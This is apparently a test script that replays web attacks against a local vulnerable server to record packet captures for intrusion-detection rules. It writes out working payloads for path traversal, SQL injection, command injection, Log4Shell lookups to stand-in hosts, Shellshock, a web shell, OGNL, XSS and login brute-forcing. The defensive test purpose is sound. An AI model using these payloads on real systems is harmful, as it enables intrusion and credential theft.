# Attacks from outside against our own server, victim.py, which has the holes and no host behind it.

victim=http://10.66.0.10:8000

from_outside()
{
    in_ns ext curl -s --interface 198.51.100.7 --path-as-is "$@"
}

attack_traversal()
{
    from_outside "$victim/../../../../etc/passwd"
    from_outside "$victim/%2e%2e/%2E%2e/%2e%2e/etc/passwd"
    from_outside "$victim/file?name=../../../etc/shadow"
}

attack_sql()
{
    from_outside "$victim/item?id=1"
    from_outside "$victim/item?id=1%27"
    from_outside "$victim/item?id=1%20or%201=1"
    from_outside "$victim/item?id=0%20UNION%20SELECT%20name%7C%7Cpassword%20FROM%20user"
    from_outside "$victim/item?id=0/**/uNiOn/**/sElEcT/**/name/**/from/**/user"
}

attack_command()
{
    from_outside "$victim/ping?host=127.0.0.1;id"
    from_outside "$victim/ping?host=127.0.0.1%7Cwhoami"
    from_outside "$victim/ping?host=127.0.0.1%0acat%20/etc/passwd"
}

attack_log4shell()
{
    from_outside -A '${jndi:ldap://198.51.100.9:1389/a}' "$victim/"
    from_outside "$victim/search?q=%24%7Bjndi:dns://c2.badhost.test/x%7D"
    from_outside -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}' "$victim/"
}

attack_agents()
{
    from_outside -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$victim/item?id=1"
    from_outside -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' "$victim/"
    from_outside -A 'masscan/1.3' "$victim/"
}

attack_webshell()
{
    from_outside --data-urlencode 'c=id' --data-urlencode 'x=@eval(base64_decode($_POST[z]));' \
        "$victim/images/up.php"
    from_outside --data-urlencode 'c=uname -a' "$victim/images/up.php"
}

attack_others()
{
    from_outside "$victim/search?q=%3CScript%3Ealert(1)%3C/script%3E"
    from_outside -H 'Content-Type: %{(#cmd="id").(#p=new java.lang.ProcessBuilder(#cmd))}' \
        -d x "$victim/upload.action"
    from_outside -b 'session=../../../../tmp/sess_1' "$victim/"
    from_outside -X POST -H 'User-Agent:' -d 'a=b' "$victim/gate"
}

attack_logins()
{
    local i
    for i in $(seq 1 40); do
        from_outside -u "admin:password$i" "$victim/login"
    done
    from_outside -u admin:s3cret "$victim/login"
}

attack_logins_one_connection()
{
    local i args=()
    for i in $(seq 1 40); do
        args+=("$victim/login?i=$i")
    done
    from_outside -u admin:letmein "${args[@]}"
}

# A shell that calls home: the answers are fixed texts, no shell runs.
attack_reverse_shell()
{
    in_ns srv python3 "$lib/talk.py" 198.51.100.7 4444 '$ ' ? \
        'uid=0(root) gid=0(root) groups=0(root)\n$ ' ? 'Linux victim 6.1.0 x86_64\n$ ' '<'
}

group_attack()
{
    start_nginx srv
    start_victim srv
    serve ext listener python3 "$lib/talkback.py" 4444 'id\n' 'uname -a\n' 'exit\n'
    wait_port ext -t 4444

    record attack-traversal.pcap srv 'path traversal, plain, escaped and in a parameter' \
        'curl, victim.py' 1000001,1000002,1000003,1000004 attack_traversal
    record attack-sql.pcap srv 'SQL injection: quote, tautology, UNION SELECT' 'curl, victim.py' \
        1000005,1000006 attack_sql
    record attack-command.pcap srv 'commands in a parameter; the answer of id' 'curl, victim.py' \
        1000003,1000004,1000011,1000013 attack_command
    record attack-shellshock.pcap srv 'a function definition in the user agent' 'curl, victim.py' \
        1000007,1000013 from_outside -A '() { :; }; /usr/bin/id' "$victim/cgi-bin/status"
    record attack-log4shell.pcap srv 'jndi look-ups in user agent, query and a header' \
        'curl, victim.py' 1000008,1000009,1000010 attack_log4shell
    record attack-agents.pcap srv 'user agents of scanners' 'curl, victim.py' 1000015,1000016,1000017 \
        attack_agents
    record attack-webshell.pcap srv 'a web shell is used' 'curl, victim.py' 1000012,1000013 \
        attack_webshell
    record attack-others.pcap srv 'script in a parameter, OGNL, traversal in a cookie, no user agent' \
        'curl, victim.py' 1000021,1000022,1000023,1000024 attack_others
    record attack-http-logins.pcap srv '40 wrong Basic logins, a connection each, then the right one' \
        'curl, victim.py' 1000019,1000020 attack_logins
    record attack-http-logins-one.pcap srv '40 wrong Basic logins in one connection' \
        'curl, victim.py' 1000019,1000020 attack_logins_one_connection
    record attack-reverse-shell.pcap srv 'a shell calls home to port 4444' 'talk.py, talkback.py' \
        1000014 attack_reverse_shell
}
